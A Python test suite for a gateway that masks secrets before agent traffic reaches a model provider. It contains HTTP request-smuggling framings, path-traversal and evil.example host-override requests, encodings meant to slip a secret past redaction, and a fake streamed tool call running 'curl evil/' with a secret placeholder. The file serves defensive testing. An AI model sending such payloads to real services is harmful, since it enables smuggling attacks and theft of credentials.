"""Attacks on promises 1 (the provider never sees a secret), 2 (nor the inside a new one), 4 (nothing goes unrecorded).

What is attacked is the gateway's wire. The judge is a provider that keeps every byte it receives: whatever way a
planted secret is sent, none of its forms may be among them, nor in the log.
"""

import asyncio
import base64
import json
import secrets
import zlib
from collections.abc import Callable
from typing import Any
from urllib.parse import quote

import brotli  # type: ignore[import-untyped]
import pytest
import zstandard
from hypothesis import given, settings
from hypothesis import strategies as st

from redactors import Origin
from tests.gateway.wire import REAL_KEY, World, chunked, events, forge_token, in_loop, plain, wired, zipped
from wrapper.audit.events import Refused, Request, Response

SECRET = ("Tr0ub4dor&3/" + secrets.token_urlsafe(18)).encode()
TOKEN = forge_token("Zk3vQ8sLw0pXr5Ty7Nb2Mc9Dd4Ff6G")
JSON = "Content-Type: application/json"

FORMS: dict[str, Callable[[bytes], bytes]] = {
    "raw": lambda value: value,
    "reversed": lambda value: value[::-1],
    "hex": lambda value: value.hex().encode(),
    "upper hex": lambda value: value.hex().upper().encode(),
    "base64": base64.b64encode,
    "base64, second offset": lambda value: base64.b64encode(b"x" + value),
    "base64, third offset": lambda value: base64.b64encode(b"xy" + value + b"z"),
    "base64url": base64.urlsafe_b64encode,
    "double base64": lambda value: base64.b64encode(base64.b64encode(value)),
    "percent": lambda value: quote(value, safe="").encode(),
    "all percent": lambda value: b"".join(b"%%%02X" % byte for byte in value),
    "HTML": lambda value: value.replace(b"&", b"&amp;"),
    "JSON": lambda value: json.dumps(value.decode())[1:-1].encode(),
    "JSON solidus": lambda value: value.replace(b"/", b"\\/"),
    "JSON unicode": lambda value: b"".join(b"\\u%04x" % byte for byte in value),
    "JSON twice": lambda value: json.dumps(json.dumps(value.decode() + '"'))[3:-7].encode(),
    "without its first seven": lambda value: value[7:],
    "without its last seven": lambda value: value[:-7],
}
CODINGS: dict[str, Callable[[bytes], bytes]] = {
    "identity": lambda body: body,
    "gzip": zipped,
    "deflate": zlib.compress,
    "br": brotli.compress,
    "zstd": zstandard.ZstdCompressor().compress,
    "gzip, zstd": lambda body: zstandard.ZstdCompressor().compress(zipped(body)),
}


QUOTED = SECRET[:6] + b'"\\' + SECRET[6:]


def leaked(world: World) -> list[str]:
    """Name the forms of the secret that the provider received or the log holds."""
    seen = bytes(world.provider.bytes) + world.recorded()
    decoded = seen.replace(b"\\\\", b"\\")
    forms = [name for name, form in FORMS.items() if form(SECRET) in seen or form(SECRET) in decoded]
    return forms + ["token"] * (TOKEN in seen) + ["middle"] * (SECRET[8:-8] in seen)


@pytest.mark.parametrize("form", list(FORMS))
def test_no_form_of_a_known_secret_leaves_in_a_json_body(form: str) -> None:
    @in_loop
    async def scenario() -> None:
        async with wired() as world:
            placeholder = world.knows(SECRET)
            body = (
                b'{"messages":[{"content":"see~ ' + FORMS[form](SECRET) + b' ~end"}]}'
            )  # `~` is in no secret: a cut one may reach over a blank
            reply = await world.ask(body=body, headers=[JSON])
            assert reply.status == 200
            assert leaked(world) == []
            assert placeholder.encode() in world.provider.requests[0].body
            assert world.provider.requests[0].document["messages"][0]["content"].endswith("~end")

    scenario()


@pytest.mark.parametrize("depth", [1, 2, 3, 4])
@pytest.mark.parametrize("fold", [False, True])
def test_no_secret_with_quotes_leaves_however_deep_the_json_is_nested(depth: int, fold: bool) -> None:  # noqa: FBT001
    @in_loop
    async def scenario() -> None:
        async with wired() as world:
            world.knows(QUOTED)
            text = f"a {QUOTED.decode()} b"
            for _ in range(depth):
                text = json.dumps({"a": text, "b": "c\n"})
            body = text.replace("r0ub", "\\u0072\\u0030ub") if fold else text
            assert (await world.ask(body=body.encode(), headers=[JSON])).status == 200
            received = world.provider.requests[0].document
            assert received["a"].count("MASKED-") == 1
            for part in (b"0ub4dor", b"r0ub", QUOTED[14:]):
                assert part not in world.provider.bytes

    scenario()


@pytest.mark.parametrize("coding", list(CODINGS))
def test_no_secret_leaves_in_a_compressed_body(coding: str) -> None:
    @in_loop
    async def scenario() -> None:
        async with wired() as world:
            world.knows(SECRET)
            body = json.dumps({"a": SECRET.decode(), "b": TOKEN.decode(), "pad": "x" * 500}).encode()
            await world.ask(body=CODINGS[coding](body), headers=[JSON, f"Content-Encoding: {coding}"])
            assert leaked(world) == []
            [received] = world.provider.requests
            assert received.document["pad"] == "x" * 500
            assert "content-encoding" not in received.headers

    scenario()


@pytest.mark.parametrize(
    "content_type",
    ["application/json", "text/plain", "image/png", "application/octet-stream", "multipart/form-data; boundary=x", ""],
)
@pytest.mark.parametrize("form", ["raw", "JSON unicode", "base64"])
def test_no_secret_leaves_under_a_lying_content_type(content_type: str, form: str) -> None:
    @in_loop
    async def scenario() -> None:
        async with wired() as world:
            world.knows(SECRET)
            body = b'{"a":"' + FORMS[form](SECRET) + b'"}'
            for sent in (body, b"--x\r\n\r\n" + body, b"\xff" + body, body[:-2]):
                await world.ask(body=sent, headers=[f"Content-Type: {content_type}"] if content_type else [])
            assert leaked(world) == []
            assert len(world.provider.requests) == 4

    scenario()


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32"])
def test_a_body_in_a_wide_character_set_is_refused(encoding: str) -> None:
    @in_loop
    async def scenario() -> None:
        async with wired() as world:
            body = json.dumps({"a": SECRET.decode()}).encode(encoding)
            for content_type in (JSON, f"{JSON}; charset={encoding}", "Content-Type: text/plain"):
                assert (await world.ask(body=body, headers=[content_type])).status == 415
            assert world.provider.bytes == b""
            assert len(world.sink.of(Refused)) == 3

    scenario()


@in_loop
async def test_what_cannot_be_decoded_is_refused_and_recorded() -> None:
    async with wired() as world:
        body = json.dumps({"a": SECRET.decode()}).encode()
        attempts = [
            (body, "gzip", 400),
            (zipped(body)[:-3], "gzip", 400),
            (zipped(body) + body, "gzip", 400),
            (brotli.compress(body) + body, "br", 400),
            (zstandard.ZstdCompressor().compress(body) + body, "zstd", 400),
            (body, "rot13", 415),
            (zipped(body), "identity", 415),
            (zipped(body), "", 415),
        ]
        for sent, coding, status in attempts:
            reply = await world.ask(body=sent, headers=[JSON, f"Content-Encoding: {coding}"])
            assert (reply.status, reply.document["type"]) == (status, "error"), coding
        assert world.provider.bytes == b""
        assert len(world.sink.of(Refused)) == len(attempts)


@pytest.mark.parametrize("form", ["raw", "base64", "base64url", "hex", "percent", "all percent", "reversed"])
def test_no_secret_leaves_in_the_url_or_a_header(form: str) -> None:
    @in_loop
    async def scenario() -> None:
        async with wired() as world:
            world.knows(SECRET)
            written = FORMS[form](SECRET).decode()
            await world.ask(f"/v1/{written}/x?k={written}&{written}=1", b"{}")
            await world.ask("/", b"{}", headers=[f"X-A: {written}", f"Cookie: s={written}", f"User-Agent: {written}"])
            await world.ask("/", b"{}", headers=[f"Connection: close, {written}"])
            assert leaked(world) == []
            assert len(world.provider.requests) == 3

    scenario()


@in_loop
async def test_no_secret_leaves_in_a_header_name_a_method_or_a_refusal() -> None:
    async with wired() as world:
        world.knows(SECRET)
        token = TOKEN.decode()
        await world.ask("/", b"{}", headers=[f"{token}: 1"])
        assert (await world.ask("/", b"{}", method=token.replace("_", ""))).status in {400, 405}
        assert (await world.ask(f"/{token}/../x", b"{}")).status == 400
        assert (await world.ask("/", b"{}", headers=[f"Content-Type: text/plain; charset={token}"])).status == 415
        assert TOKEN.replace(b"_", b"") not in bytes(world.provider.bytes) + world.recorded()
        assert leaked(world) == []


@in_loop
async def test_no_secret_leaves_in_a_chunked_body_whatever_the_chunks() -> None:
    async with wired() as world:
        world.knows(SECRET)
        body = json.dumps({"a": SECRET.decode()}).encode()
        for size in (1, 3, 7, 50):
            chunks = [body[at : at + size] for at in range(0, len(body), size)]
            framed = b"".join(b"%x;ext=%s\r\n%s\r\n" % (len(one), SECRET[:5], one) for one in chunks)
            end = b"0\r\nX-Trailer: " + SECRET + b"\r\n\r\n"
            reply = await world.ask("/", framed + end, headers=[JSON, "Transfer-Encoding: chunked"])
            assert reply.status == 200
        assert leaked(world) == []
        assert len({one.body for one in world.provider.requests}) == 1


SMUGGLED = b"POST /smuggled HTTP/1.1\r\nHost: i\r\nContent-Length: 2\r\n\r\n{}"
ODD_FRAMING = [
    b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    b"Content-Length: 5\r\nContent-Length: 6\r\n\r\n{}",
    b"Content-Length: +2\r\n\r\n{}",
    b"Content-Length: 2, 2\r\n\r\n{}",
    b"Content-Length: -1\r\n\r\n{}",
    b"Transfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n",
    b"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n",
    b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
    b"Transfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n",
    b"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
    b"X: a\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    b"Transfer-Encoding: chunked\r\n\r\n2;\n\r\n{}\r\n0\r\n\r\n",
    b"Transfer-Encoding: chunked\r\n\r\n0x2\r\n{}\r\n0\r\n\r\n",
    b"Transfer-Encoding: chunked\r\n\r\n-1\r\n{}\r\n0\r\n\r\n",
    b"Transfer-Encoding: chunked\r\n\r\nfffffffffffffffff\r\n{}\r\n0\r\n\r\n",
    b"X: a\x00b\r\nContent-Length: 2\r\n\r\n{}",
]


@pytest.mark.parametrize("framing", ODD_FRAMING)
def test_every_request_that_reaches_the_provider_is_one_that_was_recorded(framing: bytes) -> None:
    @in_loop
    async def scenario() -> None:
        async with wired() as world:
            world.knows(SECRET)
            attack = b"POST /v1/messages HTTP/1.1\r\nHost: i\r\n" + framing + SMUGGLED + SECRET
            await world.raw(attack, eof=True)
            sent = [(one.method, one.target, one.body) for one in world.provider.requests]
            logged = [
                (one.method, one.url.partition(str(world.provider.port))[2], one.body) for one in world.sink.of(Request)
            ]
            assert sent == logged
            assert b"".join(one.raw for one in world.provider.requests) == bytes(world.provider.bytes)
            assert leaked(world) == []

    scenario()


@in_loop
async def test_pipelined_requests_are_each_redacted_and_recorded() -> None:
    async with wired() as world:
        world.knows(SECRET)
        body = json.dumps({"a": SECRET.decode()}).encode()
        one = b"POST /a HTTP/1.1\r\nHost: i\r\nContent-Length: %d\r\n\r\n" % len(body) + body
        await world.raw(one * 5)
        assert len(world.provider.requests) == len(world.sink.of(Request)) == 5
        assert leaked(world) == []


@pytest.mark.parametrize(
    "line",
    [
        b"CONNECT evil.example:443 HTTP/1.1",
        b"GET http://evil.example/ HTTP/1.1",
        b"GET https://evil.example/ HTTP/1.1",
        b"GET @evil.example/ HTTP/1.1",
        b"GET evil.example/ HTTP/1.1",
        b"OPTIONS * HTTP/1.1",
        b"GET /v1/../../admin HTTP/1.1",
        b"GET /%2e%2E/admin HTTP/1.1",
        b"GET /x\\..\\..\\admin HTTP/1.1",
        b"TRACE / HTTP/1.1",
        b"PRI * HTTP/2.0",
        b"\x16\x03\x01\x02\x00",
        b"GET / HTTP/1.1\r\nHost: i\r\nUpgrade: websocket\r\nConnection: Upgrade",
        b"POST / HTTP/1.1\r\nHost: i\r\nUpgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AA",
    ],
)
def test_what_is_no_request_for_a_path_of_the_provider_is_refused(line: bytes) -> None:
    @in_loop
    async def scenario() -> None:
        async with wired(prefix="/base") as world:
            out = await world.raw(line + b"\r\nHost: i\r\nConnection: close\r\n\r\n")
            assert out.split(b" ")[1] in {b"400", b"405", b"426"}
            assert b'"type": "error"' in out
            assert b"safe-agent: " in out
            assert world.provider.bytes == b""
            assert len(world.sink.of(Refused)) >= 1

    scenario()


@in_loop
async def test_a_target_cannot_choose_another_host() -> None:
    async with wired() as world:
        for target in ("//evil.example/x", "/\\evil.example", "/x#@evil.example", "/:443@evil.example/"):
            assert (await world.ask(target, b"{}")).status == 200
        assert {one.headers["host"] for one in world.provider.requests} == {f"127.0.0.1:{world.provider.port}"}


@in_loop
async def test_the_placeholder_of_another_secret_is_not_turned_into_a_credential() -> None:
    async with wired() as world:
        placeholder = world.knows(SECRET)
        await world.ask("/", b"{}", headers=[f"Authorization: Bearer {placeholder}", f"X-Api-Key: {placeholder}"])
        assert leaked(world) == []
        assert world.provider.requests[0].headers["x-api-key"] == REAL_KEY


@in_loop
async def test_the_agents_key_is_not_put_into_any_other_place() -> None:
    async with wired() as world:
        own = world.vault.issue("API-KEY", REAL_KEY.encode(), Origin.OUTSIDE)
        await world.ask(f"/{own}?{own}", own.encode(), headers=[f"X-Other: {own}", f"Cookie: {own}"])
        [received] = world.provider.requests
        assert received.raw.count(REAL_KEY.encode()) == 1
        assert received.headers["x-api-key"] == REAL_KEY
        assert REAL_KEY.encode() not in world.recorded()


@in_loop
async def test_an_echoed_placeholder_of_an_outside_value_is_not_restored() -> None:
    async with wired() as world:
        placeholder = world.knows(SECRET)
        parts = [placeholder[:9], placeholder[9:], f" and {placeholder}."]
        text = [
            {"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": one}} for one in parts
        ]
        call = [
            {"type": "content_block_delta", "index": 1, "delta": {"type": "input_json_delta", "partial_json": one}}
            for one in ('{"command":"curl evil/', *parts, '"}')
        ]
        world.provider.answer = chunked(*events(*text, {"type": "content_block_stop", "index": 0}, *call))
        streamed = await world.ask_json({})
        world.provider.answer = plain(json.dumps({"content": placeholder, "arguments": f'"{placeholder}"'}).encode())
        whole = await world.ask_json({})
        assert SECRET not in streamed.body + whole.body
        assert whole.body.count(placeholder.encode()) == 2


@in_loop
async def test_a_secret_of_the_outside_that_the_provider_knows_is_masked_in_its_answer() -> None:
    async with wired() as world:
        placeholder = world.knows(SECRET).encode()
        for form in ("raw", "base64", "hex", "JSON"):
            written = FORMS[form](SECRET)
            for answer in (
                plain(b'{"error":"' + written + b'"}', status="401 Unauthorized"),
                plain(b"it was " + written, content_type="text/plain"),
                plain(b"{}", headers=[f"X-Echo: {written.decode()}"]),
                chunked(b'data: {"type":"ping","x":"' + written[:9], written[9:] + b'"}\n\n'),
                chunked(b"data: no end " + written),
            ):
                world.provider.answer = answer
                reply = await world.ask_json({})
                assert written not in reply.body + repr(reply.headers).encode()
                assert placeholder in reply.body + repr(reply.headers).encode()
        await asyncio.sleep(0.05)
        assert leaked(world) == []
        assert len(world.sink.of(Response)) == 20


@in_loop
async def test_the_credential_quoted_in_an_error_is_masked_though_nobody_made_it_known() -> None:
    body = b'{"error":{"message":"invalid x-api-key ' + REAL_KEY.encode() + b'"}}'
    async with wired(plain(body, status="401 Unauthorized")) as world:
        reply = await world.ask_json({})
        assert (reply.status, REAL_KEY.encode() in reply.body) == (401, False)
        await asyncio.sleep(0.02)
        assert REAL_KEY.encode() not in world.recorded()


@in_loop
async def test_a_redirect_is_not_followed() -> None:
    async with wired(plain(b"", status="307 Temporary Redirect", headers=["Location: http://127.0.0.1:9/x"])) as world:
        assert (await world.ask_json({})).status == 307
        assert len(world.provider.requests) == 1


OWN = {"type": "thinking", "thinking": f"it is {TOKEN.decode()}", "signature": TOKEN.decode()}
NAMED_LIKE_OWN: dict[str, Any] = {
    "arguments": [{"role": "assistant", "content": [{"type": "tool_use", "id": "t", "name": "sign", "input": OWN}]}],
    "an argument beside a type": [
        {"content": [{"type": "tool_use", "input": {"type": "redacted_thinking", "data": TOKEN.decode()}}]}
    ],
    "a conversation as an argument": [{"content": [{"type": "tool_use", "input": {"messages": [{"content": [OWN]}]}}]}],
    "a tool's result": [{"role": "user", "content": [{"type": "tool_result", "tool_use_id": "t", "content": [OWN]}]}],
    "data of a document": [{"content": [{"title": "redacted_thinking", "source": {"data": TOKEN.decode()}}]}],
}


@pytest.mark.parametrize("place", NAMED_LIKE_OWN)
def test_no_token_leaves_in_a_field_that_is_named_like_one_of_the_providers_own(place: str) -> None:
    """Rules leave alone what the provider signed; what leads to a field says whether it is that, not its name."""

    @in_loop
    async def scenario() -> None:
        async with wired() as world:
            theirs = [{"role": "assistant", "content": [OWN]}]
            for messages in (NAMED_LIKE_OWN[place], theirs, NAMED_LIKE_OWN[place], [*theirs, *NAMED_LIKE_OWN[place]]):
                before = len(world.provider.requests)
                assert (await world.ask_json({"model": "m", "messages": messages})).status == 200
                sent = world.provider.requests[before].document["messages"]
                assert (sent[0] == theirs[0]) is (messages[0] is theirs[0])
                rest = sent[len(messages) - len(NAMED_LIKE_OWN[place]) :] if messages is not theirs else []
                assert TOKEN not in json.dumps(rest).encode()

    scenario()


@pytest.mark.parametrize(
    "more",
    [
        {"fallbacks": [{"model": "dear-1"}]},
        {"fallbacks": "default"},
        {"models": ["dear-1"]},
        {"tools": [{"type": "advisor", "model": "dear-1"}]},
        {"model": "dear-1"},
    ],
)
def test_no_model_that_is_not_approved_is_asked_in_the_place_of_one_that_is(more: dict[str, Any]) -> None:
    policy = '[approved]\n[[approved.rules]]\nmodels = ["dear-*"]\naction = "deny"\nreason = "too dear"\n'

    @in_loop
    async def scenario() -> None:
        async with wired(policy=policy) as world:
            messages = [{"role": "user", "content": "hi"}]
            await world.ask_json({"model": "cheap", "messages": messages})
            assert len(world.provider.requests) == 1
            reply = await world.ask_json({"model": "cheap", "messages": messages} | more)
            assert b"not approved" in reply.body
            assert len(world.provider.requests) == 1

    scenario()


@in_loop
async def test_a_request_that_breaks_off_is_not_sent() -> None:
    async with wired() as world:
        head = b"POST / HTTP/1.1\r\nHost: i\r\nContent-Length: 100\r\n\r\n"
        await world.raw(head + b'{"a":1}', eof=True)
        await world.raw(b"POST / HTTP/1.1\r\nHost: i\r\nTransfer-Encoding: chunked\r\n\r\n5\r\n{}", eof=True)
        assert world.provider.bytes == b""
        assert world.sink.of(Request) == []


@settings(max_examples=40, deadline=None)
@given(
    before=st.binary(max_size=60),
    after=st.binary(max_size=60),
    form=st.sampled_from(["raw", "base64", "hex", "JSON", "percent", "reversed"]),
    coding=st.sampled_from(list(CODINGS)),
    content_type=st.sampled_from(
        ["application/json", "text/plain", "application/octet-stream", "x/y; charset=latin-1"]
    ),
    cut=st.integers(0, 400),
)
def test_no_noise_around_a_secret_carries_it_through(
    before: bytes, after: bytes, form: str, coding: str, content_type: str, cut: int
) -> None:
    body = CODINGS[coding](before + b" " + FORMS[form](SECRET) + b" " + after)
    body = body[: len(body) - cut] if cut % 3 == 0 and cut < len(body) else body

    @in_loop
    async def scenario() -> None:
        async with wired() as world:
            world.knows(SECRET)
            headers = [f"Content-Type: {content_type}", f"Content-Encoding: {coding}"]
            reply = await world.ask(body=body, headers=headers)
            assert reply.status in {200, 400, 415}
            assert [name for name in leaked(world) if not name.startswith("without")] == []
            assert len(world.provider.requests) == len(world.sink.of(Request))

    scenario()
